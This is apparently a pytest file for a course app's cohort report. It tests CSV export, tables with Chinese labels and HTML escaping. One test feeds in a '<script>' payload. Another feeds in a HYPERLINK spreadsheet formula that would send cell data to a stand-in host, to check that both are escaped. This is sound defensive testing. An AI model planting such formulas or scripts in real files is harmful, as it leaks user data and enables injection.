"""The trainer's cohort report built without Qt: a cohort of two real learners (their own
SQLite files, exported as xAPI and imported into a cohort SQLite file in a temp folder),
its CSV and the tables and HTML of its PDF."""

import csv
import io
import re

import pytest

from app.demo import ALL, seed_progress
from app.reports.cohort import Cohort
from app.reports.cohort_report import (
    CSV_COLUMNS,
    CohortLabels,
    CohortReport,
    Table,
    cohort_csv,
    cohort_report,
    report_html,
)
from tests.reports.test_reports import _study


@pytest.fixture
def cohort(learner, tmp_path):
    """测试学员: one lesson, two of three answers right; 毕业生: every lesson, a passed final."""
    _study(learner)
    a = learner.reports.export(tmp_path / "a.json", "xapi")
    me = learner.profile.id
    learner.open_learner(learner.profiles.create("毕业生").id)
    seed_progress(learner, ALL, 1.0, 5, final=True)
    b = learner.reports.export(tmp_path / "b.json", "xapi")
    learner.open_learner(me)
    c = Cohort(tmp_path / "cohort.sqlite")
    c.import_file(a)
    c.import_file(b)
    yield c
    c.close()


def test_cohort_csv_has_one_row_a_learner_with_numbers(learner, cohort):
    total = len(learner.content.lessons)
    text = cohort_csv(cohort, total)
    assert text.startswith("\ufeff")
    reader = csv.DictReader(io.StringIO(text[1:]))
    assert tuple(reader.fieldnames) == CSV_COLUMNS
    rows = {r["learner"]: r for r in reader}
    assert set(rows) == {"测试学员", "毕业生"}
    me, done = rows["测试学员"], rows["毕业生"]
    assert me["lessons_completed"] == "1" and me["completion"] == str(round(1 / total, 4))
    assert me["answered"] == "3" and me["share_right"] == "0.6667"
    assert me["best_exam"] == "" and me["final_passed"] == "0"
    assert done["lessons_completed"] == str(total) and done["completion"] == "1.0"
    assert done["final_passed"] == "1" and 0.0 < float(done["best_exam"]) <= 1.0
    assert me["learner_id"] != done["learner_id"] != ""


def test_cohort_report_tables_use_the_labels_given(learner, cohort):
    labels = CohortLabels(title="群组报告", learner="学员", passed="已通过", mastery="掌握度",
                          missed="错得最多的题")  # fmt: skip
    report = cohort_report(cohort, learner.content, labels)
    assert report.title == "群组报告"
    learners, mastery, missed = report.tables
    assert learners.heading == "" and learners.headers[0] == "学员"
    assert learners.headers[1:] == ("Lessons", "Answers", "Right", "Best exam", "Final")
    assert [r[0] for r in learners.rows] == ["毕业生", "测试学员"], "ordered by name"
    name, lessons, _answers, _right, best, final = learners.rows[0]
    total = len(learner.content.lessons)
    assert (name, lessons, final) == ("毕业生", f"{total} (100%)", "已通过")
    assert learners.rows[1] == ("测试学员", f"1 ({round(100 / total)}%)", "3", "67%", "—", "—")
    assert re.fullmatch(r"\d+%", best)
    sections = {f"{s.number}. {s.title}" for s in learner.content.course.sections}
    assert mastery.heading == "掌握度" and mastery.headers == ()
    assert mastery.rows and all(n in sections and re.fullmatch(r"\d+%", v) for n, v in mastery.rows)
    stems = {q.stem for q in learner.content.questions}
    assert missed.heading == "错得最多的题" and missed.rows
    assert all(stem in stems and re.fullmatch(r"\d+ / \d+", n) for stem, n in missed.rows)


def test_report_html_escapes_every_text():
    report = CohortReport(
        "A & B",
        [Table("", ("<th>",), [("<script>x</script>",)]), Table("h3 <i>", (), [("1 < 2", "5%")])],
    )
    out = report_html(report)
    assert "<script>" not in out and "&lt;script&gt;x&lt;/script&gt;" in out
    assert "<h2" in out and ">A &amp; B</h2>" in out and "<th>&lt;th&gt;</th>" in out
    assert "<h3>h3 &lt;i&gt;</h3>" in out and "<td>1 &lt; 2</td><td>5%</td>" in out
    assert out.count("<table") == 2 and out.count("<th>") == 1, "no header row when none given"


def test_report_html_of_a_real_cohort_names_everyone(learner, cohort):
    out = report_html(cohort_report(cohort, learner.content))
    assert "测试学员" in out and "毕业生" in out
    assert "<h3>Mastery per section (the cohort)</h3>" in out
    assert "<h3>Most missed questions</h3>" in out and out.count("<th>") == 6


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped():
    """A learner named "=HYPERLINK(…)" ran as a formula in Excel; numbers stay numbers."""
    from app.reports.cohort import LearnerRow
    from app.reports.cohort_report import csv_rows
    from app.reports.csv_export import to_csv

    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    row = LearnerRow("-acct", evil, 3, 0.5, 4, None, 0.25, False)
    text = to_csv(csv_rows([row]), CSV_COLUMNS)
    got = next(csv.DictReader(io.StringIO(text[1:])))
    assert got["learner"] == "'" + evil and got["learner_id"] == "'-acct"
    assert got["lessons_completed"] == "3" and got["completion"] == "0.5"
    cells = [
        {"title": "+1 for the apology", "score": -0.5, "seconds": 0, "mode": "@cmd",
         "section": "\tx", "item_id": "\rx", "learner": "王-小明", "kind": "-"}
    ]  # fmt: skip
    got = next(csv.DictReader(io.StringIO(to_csv(cells)[1:])))
    assert got["title"] == "'+1 for the apology" and got["mode"] == "'@cmd"
    assert got["section"] == "'\tx" and got["item_id"] == "'\rx" and got["kind"] == "'-"
    assert got["score"] == "-0.5" and got["seconds"] == "0" and got["learner"] == "王-小明"
